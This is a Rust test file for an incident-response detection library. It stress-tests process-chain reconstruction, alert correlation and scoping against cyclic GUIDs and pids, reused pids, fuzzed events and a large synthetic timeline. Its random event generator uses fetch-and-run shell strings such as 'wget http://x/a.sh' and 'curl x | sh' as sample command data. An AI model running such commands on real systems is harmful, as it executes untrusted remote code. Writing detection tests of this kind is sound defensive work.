//! Chains, correlation and scope on odd input: cycles in GUIDs and pids, parents logged
//! after their children, reused pids, missing fields, random event lists, and a large
//! timeline. They must never panic, always stop, and stay bounded.

use chrono::{DateTime, TimeDelta, TimeZone, Utc};
use riposte_detect::chain::MAX_DEPTH;
use riposte_detect::{CorrelationConfig, chains, correlate, scope};
use riposte_model::{
    Action, Alarm, Alert, AlertId, AlertSource, Event, EventOrigin, LinkKind, Observables,
    Severity, Target,
};
use std::collections::HashSet;

fn t(s: i64) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2024, 5, 1, 12, 0, 0).unwrap() + TimeDelta::seconds(s)
}

fn evtx(time: Option<DateTime<Utc>>, provider: &str, id: &str, action: Action) -> Event {
    let origin = EventOrigin {
        parser: "evtx".into(),
        path: "x.evtx".into(),
        record: None,
    };
    Event::new(time, "h", action, format!("{provider} {id}"), origin)
        .with("provider", provider)
        .with("event_id", id)
}

fn sysmon1(time: i64, guid: &str, parent: &str) -> Event {
    evtx(
        Some(t(time)),
        "Microsoft-Windows-Sysmon",
        "1",
        Action::ProcessRun,
    )
    .with("ProcessGuid", guid)
    .with("ParentProcessGuid", parent)
    .with("Image", format!(r"C:\p\{guid}.exe"))
}

fn p4688(time: i64, pid: u64, parent: u64) -> Event {
    evtx(
        Some(t(time)),
        "Microsoft-Windows-Security-Auditing",
        "4688",
        Action::ProcessRun,
    )
    .with("pid", pid.to_string())
    .with("parent_pid", parent.to_string())
    .with("file_path", format!(r"C:\p\{pid}-{time}.exe"))
}

fn exit4689(time: i64, pid: u64) -> Event {
    evtx(
        Some(t(time)),
        "Microsoft-Windows-Security-Auditing",
        "4689",
        Action::HostInfo,
    )
    .with("ProcessId", format!("{pid:#x}"))
}

fn alarm(refs: Vec<u64>) -> Alarm {
    Alarm {
        detector: "t".into(),
        title: "t".into(),
        description: String::new(),
        severity: Severity::Low,
        mitre: Vec::new(),
        event_refs: refs,
        rule_id: None,
        files: Vec::new(),
        hunting: false,
    }
}

/// Links of the chain ending on `pos`: their positions (`None`: not logged).
fn chain_of(events: &[Event], pos: u64) -> (Vec<Option<u64>>, bool) {
    let found = chains(&[alarm(vec![pos])], events);
    let chain = found
        .iter()
        .find(|c| c.links.last().and_then(|l| l.event) == Some(pos))
        .expect("a chain");
    (
        chain.links.iter().map(|l| l.event).collect(),
        chain.truncated,
    )
}

#[test]
fn guid_and_pid_cycles_stop_and_are_marked() {
    // a's parent is b, b's parent is a.
    let events = vec![sysmon1(0, "a", "b"), sysmon1(0, "b", "a")];
    let (links, truncated) = chain_of(&events, 0);
    assert_eq!(links, [Some(1), Some(0)]);
    assert!(truncated);
    // Same with pids at the same time.
    let events = vec![p4688(0, 10, 20), p4688(0, 20, 10)];
    let (links, truncated) = chain_of(&events, 0);
    assert_eq!(links, [Some(1), Some(0)]);
    assert!(truncated);
    // A process that is its own parent.
    let events = vec![sysmon1(0, "a", "a")];
    assert!(chains(&[alarm(vec![0])], &events).is_empty());
}

#[test]
fn a_parent_logged_after_its_child_is_not_taken_and_reused_pids_are_told_apart() {
    // Child pid 5 at t=10; the only process 6 starts at t=20: not its parent.
    let events = vec![p4688(10, 5, 6), p4688(20, 6, 1)];
    let (links, _) = chain_of(&events, 0);
    assert_eq!(links, [None, Some(0)]);

    // pid 6: X from t=0, exits at t=5; Y from t=8. A child at t=10 is Y's; one at t=6
    // (X gone, Y not yet there) is neither's.
    let events = vec![
        p4688(0, 6, 1),  // 0: X
        exit4689(5, 6),  // 1
        p4688(8, 6, 1),  // 2: Y
        p4688(10, 7, 6), // 3
        p4688(6, 9, 6),  // 4
        p4688(4, 11, 6), // 5: while X ran
    ];
    assert_eq!(chain_of(&events, 3).0, [None, Some(2), Some(3)]);
    assert_eq!(chain_of(&events, 4).0, [None, Some(4)]);
    assert_eq!(chain_of(&events, 5).0, [None, Some(0), Some(5)]);
}

#[test]
fn depth_is_bounded() {
    let mut events: Vec<Event> = (0..100)
        .map(|i| sysmon1(i, &format!("g{i}"), &format!("g{}", i.max(1) - 1)))
        .collect();
    events[0] = sysmon1(0, "g0", "none");
    let (links, truncated) = chain_of(&events, 99);
    assert_eq!(links.len(), MAX_DEPTH);
    assert_eq!(links.last(), Some(&Some(99)));
    assert!(truncated);
}

/// A small deterministic generator (xorshift64*), so failures reproduce.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[self.below(from.len() as u64) as usize]
    }
}

fn random_event(r: &mut Rng) -> Event {
    let time = (r.below(10) > 0).then(|| t(r.below(600) as i64));
    let ids = ["a", "b", "c", "d", "", "{A}", "-"];
    let nums = [
        "1",
        "2",
        "0x2",
        "3",
        "0",
        "",
        "-",
        "x",
        "18446744073709551615",
    ];
    let users = ["bob", "alice", r"CORP\bob", "", "-"];
    let ips = [
        "10.0.0.1",
        "1.2.3.4",
        "::1",
        "127.0.0.1",
        "",
        "nope",
        "::ffff:1.2.3.4",
    ];
    let mut e = match r.below(9) {
        0 => evtx(time, "Microsoft-Windows-Sysmon", "1", Action::ProcessRun)
            .with("ProcessGuid", r.pick(&ids))
            .with("ParentProcessGuid", r.pick(&ids))
            .with("LogonId", r.pick(&nums)),
        1 => evtx(
            time,
            "Microsoft-Windows-Security-Auditing",
            "4688",
            Action::ProcessRun,
        )
        .with("SubjectLogonId", r.pick(&nums))
        .with("TargetLogonId", r.pick(&nums)),
        2 => evtx(
            time,
            "Microsoft-Windows-Security-Auditing",
            "4624",
            Action::UserLogon,
        )
        .with("TargetLogonId", r.pick(&nums))
        .with("TargetLinkedLogonId", r.pick(&nums))
        .with("remote_ip", r.pick(&ips))
        .with("logon_type", r.pick(&nums)),
        3 => evtx(
            time,
            "Microsoft-Windows-Sysmon",
            "3",
            Action::NetworkOutgoing,
        )
        .with("ProcessGuid", r.pick(&ids))
        .with("remote_ip", r.pick(&ips)),
        4 => evtx(time, "Microsoft-Windows-Sysmon", "11", Action::FileCreate)
            .with("ProcessGuid", r.pick(&ids))
            .with(
                "TargetFilename",
                r.pick(&[
                    r"C:\Users\x\Downloads\a.exe",
                    r"\Device\",
                    "",
                    r"C:\a.exe:Zone.Identifier",
                ]),
            ),
        5 => evtx(
            time,
            "Microsoft-Windows-Security-Auditing",
            "4689",
            Action::HostInfo,
        )
        .with("ProcessId", r.pick(&nums)),
        _ => {
            let origin = EventOrigin {
                parser: r.pick(&["auth_log", "auditd", "shell_history"]).into(),
                path: "/var/log/auth.log".into(),
                record: None,
            };
            let action = [
                Action::UserLogon,
                Action::UserLogoff,
                Action::ProcessRun,
                Action::UserPrivilege,
            ][r.below(4) as usize];
            Event::new(time, "h", action, "linux", origin)
                .with("ses", r.pick(&nums))
                .with("ppid", r.pick(&nums))
                .with("remote_ip", r.pick(&ips))
                .with("remote_port", r.pick(&nums))
                .with(
                    "cmd",
                    r.pick(&["wget http://x/a.sh", "bash a.sh", "curl x | sh", ""]),
                )
        }
    };
    for key in ["pid", "parent_pid", "username", "Image", "cmd"] {
        if r.below(3) == 0 {
            e.attributes.remove(key);
        } else {
            let v = match key {
                "username" => r.pick(&users),
                "Image" => r.pick(&[r"C:\a.exe", "", "a"]),
                "cmd" => r.pick(&["", "a.exe", r#""C:\Users\x\Downloads\a.exe" ,"#]),
                _ => r.pick(&nums),
            };
            e = e.with(key, v);
        }
    }
    e
}

#[test]
fn random_and_truncated_event_lists_never_panic_and_stay_bounded() {
    let mut r = Rng(0x9e37_79b9_7f4a_7c15);
    let alert = Alert {
        id: AlertId::new(),
        source: AlertSource::Generic,
        vendor: "v".into(),
        product: "p".into(),
        vendor_event_id: None,
        title: "t".into(),
        description: String::new(),
        severity: Severity::High,
        finding_type: String::new(),
        time: t(300),
        first_seen: None,
        last_seen: None,
        received_at: t(300),
        target: Target::default(),
        observables: Observables {
            source_ip: "1.2.3.4".parse().ok(),
            file_path: Some(r"C:\Users\x\Downloads\a.exe".into()),
            username: Some("bob".into()),
            ..Observables::default()
        },
        raw: serde_json::Value::Null,
    };
    let mut chained = 0;
    for round in 0..2_000 {
        let n = r.below(60) as usize;
        let events: Vec<Event> = (0..n).map(|_| random_event(&mut r)).collect();
        // Truncated lists: alarms may point past the end.
        let alarms: Vec<Alarm> = (0..r.below(6))
            .map(|_| alarm((0..r.below(5)).map(|_| r.below(n as u64 + 3)).collect()))
            .collect();
        let found = chains(&alarms, &events);
        for c in &found {
            assert!(
                !c.links.is_empty() && c.links.len() <= MAX_DEPTH + 1,
                "round {round}"
            );
            let logged: Vec<u64> = c.links.iter().filter_map(|l| l.event).collect();
            let unique: HashSet<&u64> = logged.iter().collect();
            assert_eq!(unique.len(), logged.len(), "round {round}: an event twice");
            assert!(logged.iter().all(|&p| (p as usize) < n));
            assert!(c.alarms.iter().all(|&a| (a as usize) < alarms.len()));
            assert!(c.links.iter().skip(1).all(|l| l.kind != LinkKind::Logon));
            chained += 1;
        }
        let correlated = correlate(&alert, &events, &CorrelationConfig::default());
        assert!(correlated.events.iter().all(|c| (c.event as usize) < n));
        let s = scope(&alarms, &events, &found, &correlated);
        assert!(s.events as usize <= n);
    }
    assert!(chained > 100, "the generator makes chains ({chained})");
}

/// Size of the large timeline (override with `RIPOSTE_CHAIN_EVENTS` to measure more).
fn large_size() -> usize {
    std::env::var("RIPOSTE_CHAIN_EVENTS")
        .ok()
        .and_then(|n| n.parse().ok())
        .unwrap_or(200_000)
}

#[test]
fn a_large_timeline_is_indexed_once_and_walked_fast() {
    let n = large_size();
    let hosts = 20;
    // Per host, a process tree: every tenth round a process connects out (the
    // process of the round before on the same host); each process's parent is that of
    // ten rounds before on the same host, so chains are deep.
    let mut events = Vec::with_capacity(n);
    for i in 0..n {
        let (host, round) = (i % hosts, i / hosts);
        let time = t(round as i64);
        let origin = EventOrigin {
            parser: "evtx".into(),
            path: "x.evtx".into(),
            record: None,
        };
        let e = if round % 10 == 9 {
            Event::new(
                Some(time),
                format!("h{host}"),
                Action::NetworkOutgoing,
                "c",
                origin,
            )
            .with("provider", "Microsoft-Windows-Sysmon")
            .with("event_id", "3")
            .with("ProcessGuid", format!("g{}", i - hosts))
            .with("remote_ip", "203.0.113.9")
            .with("remote_port", "443")
        } else {
            let parent = i
                .checked_sub(hosts * 10)
                .map_or("root".into(), |p| format!("g{p}"));
            Event::new(
                Some(time),
                format!("h{host}"),
                Action::ProcessRun,
                "p",
                origin,
            )
            .with("provider", "Microsoft-Windows-Sysmon")
            .with("event_id", "1")
            .with("ProcessGuid", format!("g{i}"))
            .with("ParentProcessGuid", parent)
            .with("pid", (i % 65_536).to_string())
            .with("Image", format!(r"C:\p\{}.exe", i % 97))
            .with("cmd", format!("p{} --flag", i % 97))
        };
        events.push(e);
    }
    let alarms: Vec<Alarm> = (0..1_000)
        .map(|k| alarm(vec![(n - 1).saturating_sub(k * 7) as u64]))
        .collect();
    let start = std::time::Instant::now();
    let found = chains(&alarms, &events);
    let chain_time = start.elapsed();
    let alert = Alert {
        id: AlertId::new(),
        source: AlertSource::Generic,
        vendor: "v".into(),
        product: "p".into(),
        vendor_event_id: None,
        title: "t".into(),
        description: String::new(),
        severity: Severity::High,
        finding_type: String::new(),
        time: t((n / hosts) as i64 / 2),
        first_seen: None,
        last_seen: None,
        received_at: t(0),
        target: Target::default(),
        observables: Observables {
            destination_ip: "203.0.113.9".parse().ok(),
            file_path: Some(r"C:\p\5.exe".into()),
            ..Observables::default()
        },
        raw: serde_json::Value::Null,
    };
    let start = std::time::Instant::now();
    let correlated = correlate(&alert, &events, &CorrelationConfig::default());
    let correlate_time = start.elapsed();
    let start = std::time::Instant::now();
    let s = scope(&alarms, &events, &found, &correlated);
    let scope_time = start.elapsed();
    println!(
        "{n} events: chains of 1,000 alarms {chain_time:?}, correlation {correlate_time:?} \
         ({} linked of {}), scope {scope_time:?} ({} events)",
        correlated.events.len(),
        correlated.total,
        s.events
    );
    assert_eq!(found.len(), 1_000);
    assert!(found.iter().all(|c| c.links.len() <= MAX_DEPTH + 1));
    // Alarms on processes deep in the tree reach the depth bound.
    assert!(
        found
            .iter()
            .any(|c| c.truncated && c.links.len() == MAX_DEPTH)
    );
    assert_eq!(correlated.events.len(), 1_000);
    assert!(correlated.total > 1_000);
}
